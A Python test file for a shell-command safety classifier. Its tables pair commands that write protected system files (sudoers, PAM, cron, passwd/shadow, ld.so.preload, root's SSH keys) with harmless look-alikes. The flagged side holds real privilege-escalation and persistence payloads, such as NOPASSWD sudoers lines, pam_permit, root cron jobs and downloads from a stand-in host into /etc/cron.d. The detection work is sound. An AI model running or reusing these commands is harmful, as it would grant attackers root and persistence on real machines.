"""What a write means, for any program (issue 23; rules/write_channels.py, docs/safety.md "Write channels"): a
protected system file (sudoers, PAM, sshd, passwd/shadow, hosts, crontabs, systemd units, ld.so.preload, root's
keys) reached through the program's own write channel, one (loud, quiet) table per channel.

Seen in the public collection's dev half (GTFOBins' file-write forms: screen -L, find -fprintf, lwp-download,
socat's open:F,creat); each table's loud side is other programs' forms of the same channel, mostly programs no rule
names. The quiet sides are the brief's classes: reading, an editor opening the file, a backup of a system file,
validation, a program named for making the file it writes, writes under /tmp or a build directory."""
from __future__ import annotations

from tests.safety.forms import table_holds

# An output, log, dump or record option by its name, long or one letter, fused or not.
OPTIONS = (
    ["rlwrap -l /etc/sudoers cat", "varnishncsa -g request -w /etc/cron.d/sync",
     "ssh -E /etc/pam.d/sshd host",
     "check_by_ssh -H h -E /etc/ld.so.preload -C true", "sysdig -w /etc/shadow", "dumpcap -i lo -w /etc/passwd",
     "pcapsnarf -L /etc/pam.d/su run now", "zlogger --log-file=/etc/sudoers.d/90-x serve",
     "benchctl run --result-file /etc/cron.d/job", "fwinfo --export /etc/profile.d/x.sh",
     "tracewatch --record=/etc/systemd/system/x.service", "snmptrapd -Lf /etc/ld.so.preload",
     "zlogger --log-file=/etc/update-motd.d/99-x serve", "varnishncsa -w /etc/udev/rules.d/99-x.rules",
     "blobfetch https://h/x /etc/apt/apt.conf.d/99hook", "pcapsnarf -L /etc/zsh/zshrc run now",
     "curl file:///tmp/x -o /etc/cron.d/sync", "gcc -x c /dev/null -o/etc/ld.so.preload",
     "pcapsnarf -L/etc/pam.d/su run",
     "cdrskin --trace-log /root/.ssh/authorized_keys dev=/dev/sr0"],
    ["ls -o /etc/shadow", "[ -O /etc/passwd ]", "fswatch -o /etc/hosts", "wc -w /etc/passwd", "stat -L /etc/sudoers",
     "namei -l /etc/shadow", "grep -L root /etc/passwd /etc/group", "diff -w /etc/hosts /tmp/hosts",
     "tree -L 2 /etc/systemd/system", "tcpdump -r /tmp/a.pcap -w /tmp/b.pcap", "zlogger --log-level debug /etc/hosts",
     "benchctl run --config /etc/cron.d/job", "sudo grub-mkconfig -o /boot/grub/grub.cfg",
     "ssh-keygen -l -f /etc/ssh/ssh_host_ed25519_key.pub", "auditctl -w /etc/shadow -p wa -k shadow",
     "rlwrap -l /tmp/session.log cat", "ssh -L 8080:localhost:80 host cat /etc/hosts",
     "ssh -o StrictHostKeyChecking=no host cat /etc/passwd", "curl -o /tmp/hosts https://h/etc/hosts",
     "ls -L/etc/passwd"])

# A destination operand of a program whose name or verb says it copies, fetches, saves or records.
DESTINATIONS = (
    ["hdfs dfs -get /x /etc/cron.d/sync", "gsget bucket/obj /etc/sudoers", "blobfetch https://h/x /etc/hosts",
     "netsave --quiet http://h/x /etc/pam.d/common-auth", "cp /tmp/x /etc/cron.d/sync",
     "script -q -c 'id' /etc/ld.so.preload", "asciinema rec /etc/profile.d/x.sh",
     "vaultctl export secret/x /root/.ssh/authorized_keys", "pkgmirror-dl file:///tmp/x file:///etc/passwd",
     "aria2c -d /etc/cron.d -o sync http://h/x", "wget -P /etc/cron.d http://h/sync",
     "tar c --xform 's@.*@/etc/ld.so.preload@' -OP /tmp/.t", "gallery-dl -d /etc/profile.d https://h/x.sh",
     "bsdfetch --output-dir /etc/sudoers.d --name x https://h/x", "aws s3 cp s3://b/x /etc/cron.d/sync",
     "az storage blob download -c c -n x -f /etc/cron.d/x", "oci os object get -bn b --name x --file /etc/cron.d/x"],
    ["cp /etc/sudoers /tmp/x", "sudo cp mylogrotate /etc/logrotate.d/myapp", "cat /etc/update-motd.d/00-header",
     "gsget /etc/sudoers /tmp/sudoers.bak", "blobfetch https://h/x ./hosts",
     "hdfs dfs -get /etc/hosts /data/hosts", "sudo install -d /etc/cron.d", "vaultctl get secret/x /etc/hosts",
     "script -q /tmp/session.txt", "make DESTDIR=/tmp/root install", "rsync -a /etc/pam.d/ /backup/pam.d/",
     "kubectl cp /etc/hosts pod:/tmp/hosts", "scp /etc/hosts user@host:/tmp/", "wget -P /tmp http://h/x",
     "git -C /etc/pam.d status", "make -C /etc/ssh", "tar c --xform 's@^@backup/@' -f b.tar /etc/ssh",
     "aria2c -d /tmp -o sync http://h/x", "aws s3 cp /etc/hosts s3://b/hosts", "lxc file pull c1/etc/hosts ./hosts",
     "kubectl get pods -o yaml"])

# A string of code that writes the file (a redirect, an editor's or sed's w, sqlite's .output, gdb's dump, TeX's
# \openout, a call that opens it to write, SQL's INTO OUTFILE, a get inside a client's command), or an address
# that opens it to write. A line appended is read as meaning reads a shell's >> (a hosts line is routine), and a
# shell's own string is the shell rules' to judge.
CODE = (
    ["gdb -nx -ex 'dump value \"/etc/sudoers\" \"x\"' -ex quit",
     "sqlite3 /dev/null -cmd '.output /etc/hosts' 'select 1;'",
     "sed -n '1s/.*/x/w /etc/passwd' /etc/hosts", "vim -c ':w /etc/sudoers' -c ':q!'",
     "lualatex '\\immediate\\openout\\f=/etc/ld.so.preload\\immediate\\write\\f{x}'",
     "julia -e 'open(f->write(f,\"x\"), \"/etc/ld.so.preload\", \"w\")'",
     "mysql -e \"select 'x' into outfile '/etc/cron.d/sync'\"", "smbclient //h/s -c 'get x /etc/cron.d/sync'",
     "ncat -l 9 -e 'tee /etc/ld.so.preload'", "socat -u exec:id create:/etc/shadow",
     "gopipe - open:/etc/pam.d/su,creat,trunc",
     "expect -c 'spawn sh -c \"echo deploy ALL=(ALL) NOPASSWD:ALL >> /etc/sudoers\"'",
     "gnuplot -e 'set output \"/etc/shadow\"; plot 1'", "nginx -g 'error_log /etc/ld.so.preload;'",
     "make -s --eval='$(file >/etc/ld.so.preload,x)' .",
     "jrunscript -e 'var fw=new java.io.FileWriter(\"/etc/ld.so.preload\"); fw.write(\"x\")'"],
    ["python3 -c 'print(open(\"/etc/passwd\").read())'", "sed -n '/root/p' /etc/passwd",
     "vim -c ':wq' /etc/hosts", "sqlite3 db -cmd '.output /tmp/out.txt' 'select 1;'",
     "awk -F: '{print $1}' /etc/passwd", "socat - open:/etc/hosts", "gdb -ex 'dump value \"/tmp/x\" 1'",
     "mysql -e \"select * from t into outfile '/tmp/t.csv'\"", "zsh -c 'echo x >> /etc/profile.d/x.sh'",
     "sudo sh -c 'echo \"10.0.0.5 myhost\" >> /etc/hosts'",
     "expect -c 'spawn sh -c \"echo 10.0.0.5 db >> /etc/hosts\"'", "gnuplot -e 'set output \"/tmp/p.png\"; plot 1'",
     "nginx -g 'error_log /var/log/nginx/e.log;'", "make -s --eval='$(info /etc/passwd)' ."])

# An interactive program's own script, fed by a here-string, a heredoc or an echo.
FED = (
    ["ed -s /tmp/x <<< 'w /etc/ld.so.preload'",
     "tclsh <<< 'set f [open /etc/ld.so.preload w]; puts $f x; close $f'",
     "echo '.output /etc/hosts' | sqlite3 /dev/null", "echo 'dump memory /etc/shadow 0 8' | gdb -q",
     "ftp -n h <<EOF\nget x /etc/cron.d/sync\nEOF"],
    ["ed -s /tmp/x <<< 'w /tmp/y'", "cat <<EOF > notes.txt\necho x > /etc/hosts\nEOF",
     "mail -s hi root <<< 'please run: echo x > /etc/hosts'", "echo 'select 1' | sqlite3 /etc/x.db",
     "tclsh <<< 'set f [open /etc/hosts]; puts [read $f]'"])

# Code typed into an interactive interpreter on the lines after its name (the shell's reading splits them).
REPL = (
    ["irb\nFile.write(\"/etc/ld.so.preload\", \"/tmp/x\")",
     "node\nrequire(\"fs\").writeFileSync(\"/etc/sudoers\", \"deploy ALL=(ALL) NOPASSWD:ALL\")",
     "python3\nopen(\"/etc/cron.d/sync\", \"w\").write(\"* * * * * root /tmp/.s\")",
     "groovysh\nnew File(\"/etc/pam.d/su\").write(\"auth sufficient pam_permit.so\")",
     "bsh\nfw = new FileWriter(\"/etc/shadow\"); fw.write(\"x\"); fw.close();",
     "scala\nnew java.io.PrintWriter(\"/etc/ld.so.preload\") { write(\"/tmp/x\"); close }",
     "sqlite3\n.output /etc/hosts\nselect '10.9.8.7 updates.example.org';",
     "mysql -u root\nselect 'x' into outfile '/etc/cron.d/x';",
     "tclsh\nset f [open /etc/ld.so.preload w]; puts $f /tmp/x; close $f"],
    ["python3\nprint(open(\"/etc/passwd\").read())", "irb\nFile.read(\"/etc/hosts\")",
     "node\nfs.readFileSync(\"/etc/shadow\", \"utf8\")",
     "python3\nopen(\"/etc/hosts\", \"a\").write(\"10.0.0.5 db\\n\")",
     "cd /tmp\necho \"$(date) done\" > /tmp/log.txt\ncat /etc/hosts",
     "cd /srv\necho \"export X=1\" > \"/etc/profile.d/x.sh\"",
     "cd /srv\necho \"10.0.0.5 db\" | sudo tee -a /etc/hosts", "sqlite3\n.output /tmp/out.txt\nselect 1;"])

# An editor or a pager opened and saved on the lines after it: the typed lines read as appended, a save-as over.
SESSIONS = (
    ["ed /etc/sudoers\na\ndeploy ALL=(ALL) NOPASSWD:ALL\n.\nw\nq", "sudo vi /etc/ld.so.preload\ni/tmp/x.so\n^[\n:wq",
     "nano /etc/pam.d/su\nauth sufficient pam_permit.so\n^O\n^X", "pico /etc/cron.d/sync\n* * * * * root /tmp/.s\n^O",
     "joe /etc/passwd\nroot2::0:0::/root:/bin/bash\n^KX", "echo /tmp/x.so | more\ns /etc/ld.so.preload",
     "mg /etc/sudoers\ndeploy ALL=(ALL) NOPASSWD:ALL\nC-x C-s", "vim /tmp/x\n:w /etc/shadow"],
    ["sudo vim /etc/hosts\n:q", "nano /etc/hosts\n10.0.0.5 db\n^O", "echo x | less\ns /tmp/out.txt",
     "cat /etc/sudoers\nw", "sudo vim /etc/hosts", "ed /etc/hosts\na\n10.0.0.5 db\n.\nw"])


def test_output_options():
    table_holds(OPTIONS)


def test_destinations():
    table_holds(DESTINATIONS)


def test_code_strings():
    table_holds(CODE)


def test_fed_scripts():
    table_holds(FED)


def test_interactive_code():
    table_holds(REPL)


def test_editor_sessions():
    table_holds(SESSIONS)
